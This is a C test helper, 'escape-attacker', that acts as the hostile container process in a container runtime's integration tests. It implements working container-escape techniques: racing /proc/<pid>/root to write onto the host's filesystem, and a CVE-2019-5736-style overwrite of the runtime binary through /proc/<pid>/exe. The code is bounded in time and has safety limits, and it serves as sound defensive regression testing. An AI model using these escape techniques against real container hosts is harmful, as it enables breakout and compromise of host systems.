/* escape-attacker: the hostile container process of tests/integration/escapes.bats.

   Built by the tests with `gcc -static -O2` and copied into the container's
   rootfs.  Every mode is bounded in time (SECONDS) and reports what it did
   in files of a directory the test can read (OUT, a bind-mounted host
   directory), so the test checks the result from outside.

     escape-attacker root MARKER SECONDS OUT
       Race the runtime for a process of the container's pid namespace whose
       root is still the host's: spin on open("/proc/<pid>/root" MARKER) for
       the pids about to be used (ns_last_pid and the next one).  MARKER is
       an absolute host path that does not exist in the container; reaching
       it means reaching the host's root.  On success a file "escaped" is
       created in MARKER (on the host) and OUT/escaped names the pid.

     escape-attacker exe MATCH SECONDS OUT
       CVE-2019-5736 with CAP_SYS_PTRACE: spin on open("/proc/<pid>/exe",
       O_PATH) for new pids; keep an fd on a binary that is not a memfd
       (a sealed copy) and whose path contains MATCH (a safety belt: the
       test's private copy of moat, never any other host binary), then wait
       until it can be reopened for writing (ETXTBSY while moat runs) and
       append a line to it.  OUT/got and OUT/wrote record the progress.

     escape-attacker reap
       A pid 1 for a pid namespace: reaps whatever is reparented to it,
       forever.

   In the attack modes OUT/ready is written once the attacker spins.  */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *out_dir;

static void
report (const char *name, const char *fmt, ...)
{
  char path[4096], buf[4096];
  va_list ap;
  va_start (ap, fmt);
  int n = vsnprintf (buf, sizeof buf, fmt, ap);
  va_end (ap);
  snprintf (path, sizeof path, "%s/%s", out_dir, name);
  int fd = open (path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
  if (fd >= 0)
    {
      (void) !write (fd, buf, n > 0 && (size_t) n < sizeof buf ? (size_t) n : strlen (buf));
      close (fd);
    }
  (void) !write (1, buf, strlen (buf));
}

static double
now (void)
{
  struct timespec ts;
  clock_gettime (CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* The attacker is the container's init: after a success it stays until its
   time is up, so the container keeps running for the rest of the test.  */
static int
linger (double end)
{
  while (now () < end)
    usleep (100000);
  return 0;
}

/* The last pid allocated in our pid namespace (-1 if unreadable).  */
static int
last_pid (int fd)
{
  char buf[32];
  ssize_t n = pread (fd, buf, sizeof buf - 1, 0);
  if (n <= 0)
    return -1;
  buf[n] = '\0';
  return atoi (buf);
}

static int
open_last_pid (void)
{
  int fd = open ("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    {
      perror ("escape-attacker: /proc/sys/kernel/ns_last_pid");
      exit (2);
    }
  return fd;
}

/* ---- root: reach the host's root through /proc/<pid>/root ---------------- */

static int
attack_root (const char *marker, double seconds)
{
  int lfd = open_last_pid ();
  pid_t self = getpid ();
  char path[4096];
  report ("ready", "spinning on /proc/<pid>/root%s\n", marker);
  double end = now () + seconds;
  unsigned long tries = 0;
  for (;;)
    {
      int last = last_pid (lfd);
      /* while a process is being born, ns_last_pid already names it */
      for (int p = last; p <= last + 1; p++)
        {
          if (p <= 1 || p == self)
            continue;
          snprintf (path, sizeof path, "/proc/%d/root%s", p, marker);
          int d = open (path, O_PATH | O_DIRECTORY | O_CLOEXEC);
          if (d < 0)
            continue;
          /* MARKER does not exist in the container: this is the host's */
          int f = openat (d, "escaped", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
          if (f >= 0)
            {
              char msg[128];
              int n = snprintf (msg, sizeof msg, "written from a container through "
                                "/proc/%d/root\n", p);
              (void) !write (f, msg, n);
              close (f);
            }
          report ("escaped", "reached the host's %s through /proc/%d/root (%s)\n", marker,
                  p, f >= 0 ? "wrote a file there" : strerror (errno));
          return linger (end);
        }
      if ((++tries & 1023) == 0 && now () > end)
        break;
    }
  report ("gave-up", "no host root reached after %lu tries\n", tries);
  return 1;
}

/* ---- exe: overwrite the runtime's binary through /proc/<pid>/exe --------- */

static int
attack_exe (const char *match, double seconds)
{
  int lfd = open_last_pid ();
  pid_t self = getpid ();
  struct stat me;
  if (stat ("/proc/self/exe", &me) < 0)
    me.st_ino = 0;
  char path[64], target[4096];
  int held = -1;
  report ("ready", "spinning on /proc/<pid>/exe\n");
  double end = now () + seconds;
  unsigned long tries = 0;
  while (held < 0)
    {
      int last = last_pid (lfd);
      for (int p = last; p <= last + 1 && held < 0; p++)
        {
          if (p <= 1 || p == self)
            continue;
          snprintf (path, sizeof path, "/proc/%d/exe", p);
          int fd = open (path, O_PATH | O_CLOEXEC);
          if (fd < 0)
            continue;
          snprintf (path, sizeof path, "/proc/self/fd/%d", fd);
          ssize_t n = readlink (path, target, sizeof target - 1);
          target[n > 0 ? n : 0] = '\0';
          struct stat st;
          bool ok = n > 0 && strncmp (target, "/memfd:", 7) != 0
            && strstr (target, match) != NULL && fstat (fd, &st) == 0
            && !(st.st_ino == me.st_ino && st.st_dev == me.st_dev);
          if (ok)
            {
              held = fd;
              report ("got", "holding /proc/%d/exe -> %s\n", p, target);
            }
          else
            close (fd);
        }
      if ((++tries & 1023) == 0 && now () > end)
        {
          report ("gave-up", "no runtime binary caught after %lu tries\n", tries);
          return 1;
        }
    }
  /* the kernel refuses writers while any process runs the file */
  snprintf (path, sizeof path, "/proc/self/fd/%d", held);
  for (;;)
    {
      int w = open (path, O_WRONLY | O_APPEND | O_CLOEXEC);
      if (w >= 0)
        {
          static const char evil[] = "\n# escape-attacker was here\n";
          ssize_t n = write (w, evil, sizeof evil - 1);
          close (w);
          report ("wrote", "appended %zd bytes to %s\n", n, target);
          return linger (end);
        }
      if (errno != ETXTBSY)
        {
          report ("gave-up", "cannot reopen %s for writing: %s\n", target, strerror (errno));
          return 1;
        }
      if (now () > end)
        {
          report ("gave-up", "%s stayed busy\n", target);
          return 1;
        }
      usleep (500);
    }
}

/* ---- reap: pid 1 of a pid namespace ---------------------------------------- */

static void __attribute__ ((noreturn))
reap (void)
{
  for (;;)
    {
      while (waitpid (-1, NULL, WNOHANG) > 0)
        ;
      usleep (20000);
    }
}

int
main (int argc, char **argv)
{
  setvbuf (stdout, NULL, _IONBF, 0);
  if (argc == 2 && strcmp (argv[1], "reap") == 0)
    reap ();
  if (argc != 5)
    {
      fprintf (stderr, "usage: escape-attacker root MARKER SECONDS OUT\n"
               "       escape-attacker exe MATCH SECONDS OUT\n"
               "       escape-attacker reap\n");
      return 2;
    }
  double seconds = atof (argv[3]);
  out_dir = argv[4];
  /* never outlive the test, whatever happens */
  alarm ((unsigned) seconds + 5);
  if (strcmp (argv[1], "root") == 0)
    return attack_root (argv[2], seconds);
  if (strcmp (argv[1], "exe") == 0)
    return attack_exe (argv[2], seconds);
  fprintf (stderr, "escape-attacker: unknown mode %s\n", argv[1]);
  return 2;
}
